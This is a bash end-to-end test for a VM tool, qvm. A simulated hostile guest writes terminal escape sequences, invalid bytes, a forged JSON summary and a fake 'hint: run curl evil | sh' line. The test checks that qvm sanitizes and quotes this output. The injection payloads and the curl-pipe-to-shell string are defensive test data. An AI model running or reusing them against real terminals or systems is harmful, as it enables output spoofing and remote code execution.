#!/usr/bin/env bash
# The guest is hostile, with a real guest (the mini guest): it writes
# terminal control sequences, bytes that are not UTF-8 and a line that looks
# like qvm's own ("hint: ...") to its serial console, and a forged up
# summary to its provision step's stdout. qvm up's failure message quotes
# the serial tail: on stderr and in --json it must be neutralized, and every
# quoted line indented ("  | "); qvm logs neutralizes, qvm logs --raw does
# not; qvm exec's and provision's output stay byte-exact (the user's own
# data), and with up --json the latter goes to stderr: stdout is qvm's
# summary alone.
. "$QVM_SOURCE_DIR/tests/e2e/lib.sh"

mini=$(mini_guest)
boot=(--kernel "$mini/vmlinuz" --initrd "$mini/initrd.img" --append 'console=ttyS0'
  --memory 256M --user root --no-wait-cloud-init --timeout 180)
# The guest's busybox printf turns the octal escapes into the raw bytes.
read -r -d '' step <<'EOF' || true
shell:printf '{"name":"hv","ok":true,"outcome":"created"}\n\033[2J\302\233forged\n'; echo step-stderr >&2; printf 'hostile-start \033]0;pwned\007\033[2Jx\302\233y\302\235z\233w\177v\377 hostile-end\nhint: run curl evil | sh\n' >/dev/ttyS0; exit 1
EOF

# no_controls FILE WHAT: no ESC, BEL, CSI (raw or as UTF-8), OSC, DEL; UTF-8.
no_controls() {
  python3 - "$1" <<'PY' || fail "$2 carries control bytes or invalid UTF-8: $(od -c "$1" | grep -m3 -E '033|233|177|377')"
import sys
b = open(sys.argv[1], "rb").read()
b.decode("utf-8")
sys.exit(1 if any(s in b for s in (b"\x1b", b"\x07", b"\x9b", b"\xc2\x9d", b"\x7f")) else 0)
PY
}

# 1. The provision step prints a forged summary first, writes the hostile
# bytes to the console, then fails. up --json: stdout is one JSON document,
# qvm's (ok false, failed in provision); the step's output is on stderr,
# byte-exact, and in provision.log.
set +e
qvm up hv "${boot[@]}" --provision "$step" --keep-on-failure --json >"$tmp/up1.json" 2>"$tmp/up1.err"
rc=$?
set -e
[[ $rc -ne 0 ]] || fail "the failing provision step did not fail up"
serial=$QVM_STATE_DIR/vms/hv/serial.log
grep -q $'\033]0;pwned\a' "$serial" || fail "the guest's bytes are not in serial.log (control)"
python3 - "$tmp/up1.json" <<'PY' || fail "up --json stdout is not qvm's summary alone: $(cat -v "$tmp/up1.json")"
import json, sys
b = open(sys.argv[1], "rb").read()
j = json.loads(b.decode("utf-8"))  # exactly one document: extra data is an error
assert j["name"] == "hv" and j["ok"] is False and j["failed_phase"] == "provision", j
assert isinstance(j["phases_ms"]["ssh"], int), j
assert b"forged" not in b and b'"ok":true' not in b and b.count(b"\n") == 1, b
PY
python3 - "$tmp/up1.err" <<'PY' || fail "the step's stdout is not on up's stderr, byte-exact: $(cat -v "$tmp/up1.err")"
import sys
b = open(sys.argv[1], "rb").read()
assert b'{"name":"hv","ok":true,"outcome":"created"}\n\x1b[2J\xc2\x9bforged\n' in b, b
PY
grep -q '^step-stderr$' "$tmp/up1.err" || fail "the step's stderr is not on up's stderr"
grep -qF '"outcome":"created"}' "$QVM_STATE_DIR/vms/hv/provision.log" ||
  fail "the step's output is not in provision.log"

# 2. qvm logs: neutralized by default, exact with --raw.
qvm logs hv >"$tmp/logs" || fail "qvm logs failed"
no_controls "$tmp/logs" "qvm logs"
LC_ALL=C grep -aq 'hostile-start .*pwned.* hostile-end$' "$tmp/logs" || fail "qvm logs lost the line"
qvm logs hv --raw >"$tmp/raw" || fail "qvm logs --raw failed"
grep -q $'\033]0;pwned\a\033\\[2Jx\302\233y\302\235z\233w\177v\377' "$tmp/raw" ||
  fail "qvm logs --raw changed the bytes"

# 3. qvm exec output is the user's data: byte-exact (not a terminal here).
qvm exec hv -- printf '\033[2J\302\233\377' >"$tmp/exec" || fail "qvm exec failed"
[[ $(od -An -tx1 "$tmp/exec" | tr -d ' \n') == 1b5b324ac29bff ]] ||
  fail "qvm exec changed the output bytes: $(od -An -tx1 "$tmp/exec")"

# 4. up fails in a phase that quotes the serial tail: the guest's host key
# is no longer the pinned one (another key is pinned in its place).
kh=$QVM_STATE_DIR/vms/hv/known_hosts
ssh-keygen -q -t ed25519 -N '' -f "$tmp/other" || fail "ssh-keygen"
read -r alias _ <"$kh"
echo "$alias $(cut -d' ' -f1,2 "$tmp/other.pub")" >"$kh"
set +e
qvm up hv "${boot[@]}" --provision "$step" --keep-on-failure >"$tmp/up2.out" 2>"$tmp/up2.err"
rc=$?
set -e
[[ $rc -ne 0 ]] || fail "up with a swapped host key succeeded"
grep -q "last serial output" "$tmp/up2.err" || fail "up quoted no serial tail: $(cat "$tmp/up2.err")"
LC_ALL=C grep -aq "hostile-start .*pwned.* hostile-end" "$tmp/up2.err" ||
  fail "the serial tail lost the guest's line: $(cat -v "$tmp/up2.err")"
no_controls "$tmp/up2.err" "qvm up's failure message"
# The guest's lines are quoted: its "hint:" line cannot pass for qvm's.
grep -q '^  | hint: run curl evil' "$tmp/up2.err" || fail "the guest's hint line is not quoted"
[[ $(grep -c '^hint: ' "$tmp/up2.err") -eq 1 ]] && grep -q '^hint: a changed host key' "$tmp/up2.err" ||
  fail "a hint line that is not qvm's: $(cat -v "$tmp/up2.err")"
sed -n '/^last serial output:$/,/^hint: /p' "$tmp/up2.err" | sed '1d;$d' >"$tmp/tail"
[[ -s $tmp/tail ]] && ! grep -qv '^  | ' "$tmp/tail" ||
  fail "a serial line is not quoted with '  | ': $(cat -v "$tmp/tail")"
set +e
qvm up hv "${boot[@]}" --provision "$step" --keep-on-failure --json >"$tmp/up3.json" 2>/dev/null
set -e
python3 - "$tmp/up3.json" <<'PY' || fail "up --json is not strict UTF-8 JSON with the tail: $(cat -v "$tmp/up3.json")"
import json, sys
j = json.loads(open(sys.argv[1], "rb").read().decode("utf-8"))
assert j["ok"] is False and "hostile-end" in j["error"], j
assert not any(c in j["error"] for c in "\x1b\x07\x9b\x9d\x7f"), j["error"]
tail = j["error"].split("last serial output:\n", 1)[1].split("\n")
assert tail and all(line.startswith("  | ") for line in tail), tail
PY
no_controls "$tmp/up3.json" "qvm up --json"
log "ok"
